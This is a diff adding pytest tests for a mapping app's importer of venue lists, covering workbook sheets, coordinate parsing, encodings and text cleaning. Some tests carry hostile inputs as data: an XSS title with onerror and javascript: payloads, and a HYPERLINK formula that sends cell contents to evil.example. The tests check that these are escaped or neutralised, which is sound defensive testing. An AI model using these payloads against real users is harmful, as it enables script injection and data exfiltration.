@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import re
 import time
+from pathlib import Path
 
 import numpy as np
 import pandas as pd
@@ -444,3 +445,283 @@ def test_area_and_line_layers_draw_on_the_web_map_and_in_exports(districts, tmp_
     assert html_d.count('"type":"LineString"') <= 4
     out = render_static_map(layers, frames, tmp_path / "m.png", title="t", dpi=50)
     assert out.stat().st_size > 1000
+
+
+# --- where the list is in a workbook ------------------------------------------------------------------
+
+
+def _placed(df, districts, datum="wgs84"):
+    g = guess_mapping(df)
+    return validate(df, g.mapping, datum=datum, districts=districts), g
+
+
+@pytest.mark.parametrize("layout", ["instructions_first", "empty_first", "hidden_sheet", "list_on_sheet3"])
+def test_the_sheet_holding_the_list_is_read_and_the_others_offered(layout, districts):
+    data, name, truth = hf.xlsx_sheets(layout=layout, seed=3)
+    df = read_table(data, name)
+    info = df.attrs["read_info"]
+    assert info.sheet == truth["sheet"]
+    assert sorted(info.sheets) == sorted(truth["sheets_with_data"])  # what the page offers
+    r, g = _placed(df, districts)
+    assert not g.needs_confirmation and r.counts() == {"ok": len(truth["names"])}
+    assert r.table["名称"].tolist() == truth["names"]
+    np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=1e-9)
+    if layout == "hidden_sheet":
+        assert any("旧名单" in zh for zh, _ in info.notes)
+    for other in [s for s in info.sheets if s != truth["sheet"]]:  # any other sheet can be chosen
+        try:
+            assert read_table(data, name, layer=other).attrs["read_info"].sheet == other
+        except UploadError as exc:  # a sheet of one line: said plainly
+            assert "no data rows" in exc.en
+
+
+def test_the_import_page_preselects_the_list_sheet_and_offers_the_instructions():
+    from streamlit.testing.v1 import AppTest
+
+    data, name, _truth = hf.xlsx_sheets(layout="instructions_first")
+    page = str(Path(__file__).resolve().parents[1] / "pages" / "5_导入_Import.py")
+    at = AppTest.from_file(page, default_timeout=120).run()
+    at.file_uploader(key="imp_file").set_value((name, data, "application/vnd.ms-excel")).run()
+    assert not at.exception
+    picker = next(s for s in at.selectbox if str(s.key).startswith("imp_layer_"))
+    assert picker.value == "场馆名单" and picker.options == ["填写说明", "场馆名单"]
+    assert any("5 行" in c.value for c in at.caption)
+
+
+def test_a_header_below_title_rows_is_found(districts):
+    data, name, truth = hf.xlsx_header_below(title_rows=3)
+    df = read_table(data, name)
+    assert df.attrs["read_info"].header_row == truth["header_row"]
+    r, _ = _placed(df, districts)
+    assert r.table["名称"].tolist() == truth["names"] and r.counts() == {"ok": len(truth["names"])}
+
+
+@pytest.mark.parametrize("cached", [True, False])
+def test_formula_cells_give_their_saved_result_or_are_named(cached, districts):
+    data, name, truth = hf.xlsx_formulas(cached=cached)
+    df = read_table(data, name)
+    r, _ = _placed(df, districts)
+    notes = " ".join(en for _, en in df.attrs["read_info"].notes)
+    if cached:
+        np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=1e-9)
+        assert "formula" not in notes
+    else:  # no result to read: never a guessed coordinate, and the page says which cells
+        assert (r.table.status == "error").all() and r.table.lon_wgs84.isna().all()
+        assert "5 formula cells hold no saved result (e.g. C2, C3, C4, C5, C6)" in notes
+
+
+def test_coordinates_formatted_as_dates_are_read_as_their_numbers(districts):
+    data, name, truth = hf.xlsx_dates_as_coordinates()
+    df = read_table(data, name)
+    r, _ = _placed(df, districts)
+    np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=1e-7)
+    np.testing.assert_allclose(r.table.lat_wgs84, truth["lat"], atol=1e-7)
+    assert any("10 cells are formatted as dates" in en for _, en in df.attrs["read_info"].notes)
+
+
+def test_real_dates_stay_dates():
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    wb.active.append(["名称", "经度", "纬度", "开放日期"])
+    wb.active.append(["科技馆", 121.55, 29.87, __import__("datetime").datetime(2024, 5, 1)])
+    buf = __import__("io").BytesIO()
+    wb.save(buf)
+    df = read_table(buf.getvalue(), "d.xlsx")
+    assert df["开放日期"].tolist() == ["2024-05-01T00:00:00"]
+
+
+# --- coordinates written as text --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("kind", ["fullwidth", "decimal_comma", "dms", "hemisphere"])
+def test_coordinates_written_as_planners_write_them_are_read_with_a_note(kind, fmt, districts):
+    data, name, truth = hf.text_numbers(kind=kind, fmt=fmt, seed=4)
+    df = read_table(data, name)
+    r, _ = _placed(df, districts)
+    assert r.counts() == {"ok": len(truth["names"])}
+    np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=2e-6)  # DMS to 1e-4 s
+    np.testing.assert_allclose(r.table.lat_wgs84, truth["lat"], atol=2e-6)
+    assert r.table.reasons.map(lambda rs: "coordinates_repaired" in rs).all()
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["121°61'", "121 33.5 10", "121.55 29.87", "约121", "121..5", "E121.5N", "1e400", "nan", "inf", "--121"],
+)
+def test_what_is_not_a_coordinate_is_refused_not_guessed(cell, districts):
+    df = read_table(f"名称,经度,纬度\n场馆,{cell},29.87\n".encode(), "x.csv")
+    r, _ = _placed(df, districts)
+    assert r.table.status.tolist() == ["error"] and "invalid_coordinates" in r.table.reasons[0]
+
+
+@pytest.mark.parametrize(
+    ("order", "header"), [("lonlat", "坐标"), ("latlon", "经纬度"), ("lonlat", "lnglat")]
+)
+def test_both_coordinates_in_one_cell_are_split(order, header, districts):
+    data, name, truth = hf.lonlat_one_cell(order=order, header=header)
+    df = read_table(data, name)
+    r, g = _placed(df, districts)
+    assert r.counts() == {"ok": len(truth["names"])} and not g.needs_confirmation
+    np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=1e-9)
+    np.testing.assert_allclose(r.table.lat_wgs84, truth["lat"], atol=1e-9)
+    assert any("split into longitude and latitude" in en for _, en in df.attrs["read_info"].notes)
+
+
+# --- text files ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("bom", ["utf8", "gb18030"])
+def test_a_bom_before_gb18030_text_is_not_part_of_the_header(bom, districts):
+    data, name, truth = hf.csv_bom_gb18030(bom=bom)
+    df = read_table(data, name)
+    assert list(df.columns)[:3] == ["名称", "经度", "纬度"] and df.attrs["read_info"].encoding == "gb18030"
+    r, _ = _placed(df, districts)
+    assert r.table["名称"].tolist() == truth["names"] and r.counts() == {"ok": len(truth["names"])}
+
+
+def test_mixed_line_endings_lose_no_row(districts):
+    data, name, truth = hf.csv_mixed_line_endings(n=10)
+    df = read_table(data, name)
+    r, _ = _placed(df, districts)
+    assert r.table["名称"].tolist() == truth["names"]
+    np.testing.assert_allclose(r.table.lat_wgs84, truth["lat"], atol=1e-9)
+    assert df.attrs["source_rows"].tolist() == list(range(2, 12))
+
+
+def test_trailing_empty_columns_are_dropped_with_a_note(districts):
+    data, name, _truth = hf.csv_delimited(trailing=True, delimiter=",")
+    df = read_table(data, name)
+    assert not [c for c in df.columns if c.startswith("列")]
+    assert any("empty columns" in en for _, en in df.attrs["read_info"].notes)
+
+
+def test_repeated_headers_are_numbered_said_and_confirmed(districts):
+    data, name, truth = hf.csv_duplicate_headers()
+    df = read_table(data, name)
+    assert list(df.columns) == ["名称", "名称 (2)", "经度", "纬度", "备注", "备注 (2)"]
+    assert any("Repeated column names: 名称, 备注" in en for _, en in df.attrs["read_info"].notes)
+    g = guess_mapping(df)
+    assert g.mapping["name"] == "名称" and g.needs_confirmation  # the planner confirms which name
+    r = validate(df, g.mapping, datum="wgs84", districts=districts)
+    assert r.table["名称"].tolist() == truth["names"]
+
+
+@pytest.mark.parametrize(
+    ("ext", "says"),
+    [
+        (".xls", "save it as .xlsx or CSV"),
+        (".zip", "zipped Shapefile as GeoPackage or GeoJSON"),
+        (".shp", "GeoPackage or GeoJSON"),
+        (".kml", "GeoPackage"),
+    ],
+)
+def test_formats_not_read_are_refused_saying_how_to_convert(ext, says):
+    data = hf.zipped_shapefile()[0] if ext == ".zip" else b"\xd0\xcf\x11\xe0" + b"\x00" * 100
+    with pytest.raises(UploadError) as err:
+        read_table(data, f"list{ext}")
+    assert says in err.value.en and "另存为" in err.value.zh
+
+
+# --- names: invisible characters, markup, formulas -----------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson"])
+def test_control_and_invisible_characters_leave_names_and_text_with_a_note(fmt, districts, tmp_path):
+    data, name, truth = hf.names_with_control_chars(fmt=fmt)
+    df = read_table(data, name)
+    assert df["名称"].tolist() == truth["clean"]
+    assert any("Removed control or invisible characters" in en for _, en in df.attrs["read_info"].notes)
+    r, _ = _placed(df, districts)
+    assert r.table.status.iloc[-1] == "error" and r.table.reasons.iloc[-1] == ["missing_name"]
+    saved = save_user_layer("控制字符", to_sites(r, layer_name="控制字符"), folder=tmp_path)
+    back = load_user_layer(saved.key, folder=tmp_path)
+    bad = re.compile("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")
+    for col in back.columns:
+        if back[col].dtype == object or pd.api.types.is_string_dtype(back[col]):
+            assert not [v for v in back[col] if isinstance(v, str) and bad.search(v)], col
+    assert back.name_zh.tolist() == truth["clean"][:-1]
+
+
+def test_every_control_format_and_surrogate_character_is_removed():
+    import sys
+    import unicodedata
+
+    from atlas.readers import clean_text
+
+    for cp in range(sys.maxunicode + 1):
+        ch = chr(cp)
+        if unicodedata.category(ch) in ("Cc", "Cf", "Cs"):
+            assert clean_text(f"甬{ch}江") in ("甬江", "甬 江"), hex(cp)
+    assert clean_text("宁波 科技馆") == "宁波 科技馆"  # ordinary text is untouched
+
+
+def test_markup_names_are_kept_as_text_and_escaped_on_the_map(districts):
+    data, name, truth = hf.markup_names()
+    df = read_table(data, name)
+    r, _ = _placed(df, districts)
+    expected = [n.strip() for n in truth["names"]]
+    expected[expected.index("\t=1+1".strip())] = "=1+1"
+    assert r.table["名称"].tolist() == expected  # stored as typed: never stripped or rewritten
+
+
+def test_markup_in_what_reading_found_is_shown_as_text_on_the_page():
+    """Title rows, sheet names and column names reach the page's notes: escaped, never markup."""
+    from streamlit.testing.v1 import AppTest
+
+    from ui.cards import md_escape
+
+    title = "<img src=x onerror=alert(1)> **粗体** [点我](javascript:alert(1))"
+    rows = [[title], ["名称", "经度", "纬度", "名称"], ["科技馆", 121.55, 29.87, "x"]]
+    data = hf.write_xlsx({"<b>说明</b>": [["坐标请使用高德坐标"]], "名单": rows})
+    page = str(Path(__file__).resolve().parents[1] / "pages" / "5_导入_Import.py")
+    at = AppTest.from_file(page, default_timeout=120).run()
+    at.file_uploader(key="imp_file").set_value(("markup.xlsx", data, "application/vnd.ms-excel")).run()
+    assert not at.exception
+    bodies = [i.value for i in at.info]
+    assert any(md_escape(title) in b for b in bodies), bodies  # the title row, escaped whole
+    assert not any(title in b for b in bodies)
+    picker = next(s for s in at.selectbox if str(s.key).startswith("imp_layer_"))
+    assert picker.options == ["<b>说明</b>", "名单"]  # a select box shows its options as text
+    picker.set_value("<b>说明</b>").run()  # a sheet of one line: said, and the choice stays
+    assert at.error and "没有数据行" in at.error[0].value
+    picker = next(s for s in at.selectbox if str(s.key).startswith("imp_layer_"))
+    picker.set_value("名单").run()
+    assert not at.error and any("1 行" in c.value for c in at.caption)
+
+
+def test_formulas_in_names_are_neutralised_in_every_csv_written(districts, tmp_path):
+    from atlas.export import neutralise_formulas, write_csv
+
+    data, name, _ = hf.markup_names()
+    df = read_table(data, name)
+    r, _ = _placed(df, districts)
+    sites = to_sites(r, layer_name="markup")
+    out = pd.read_csv(write_csv(sites, tmp_path / "layer.csv"), dtype=str, keep_default_na=False)
+    report = neutralise_formulas(r.error_report("zh").assign(名称=r.table["名称"]))
+    for table in (out, report):
+        for col in table.columns:
+            cells = table[col].astype(str)
+            assert not cells.str.match(r"^[=+\-@\t\r]").any(), (col, cells.tolist())
+    assert '\'=HYPERLINK("http://evil.example/?q="&A1,"点击")' in out.name_zh.tolist()
+
+
+# --- geometry files: mixed, missing and 3D geometries, a crs member ------------------------------------
+
+
+@pytest.mark.parametrize("crs", [None, "EPSG:3857", "EPSG:4490", "CRS84"])
+def test_mixed_null_and_3d_geometries_with_a_crs_member(crs, districts):
+    data, name, truth = hf.geojson_mixed(crs=crs)
+    df = read_table(data, name)
+    r, _g = _placed(df, districts)
+    placed, unplaced = truth["placed"], truth["unplaced"]
+    assert r.table.status.iloc[placed].eq("ok").all() and r.table.status.iloc[unplaced].eq("unplaced").all()
+    np.testing.assert_allclose(
+        r.table.lon_wgs84.iloc[placed[:3]], np.array(truth["lon"])[placed[:3]], atol=1e-6
+    )
+    np.testing.assert_allclose(
+        r.table.lat_wgs84.iloc[placed[:3]], np.array(truth["lat"])[placed[:3]], atol=1e-6
+    )
+    sites = to_sites(r, layer_name="mixed", shapes="point")
+    assert not shapely.has_z(sites.geometry.dropna().to_numpy()).any()  # 2D points are saved
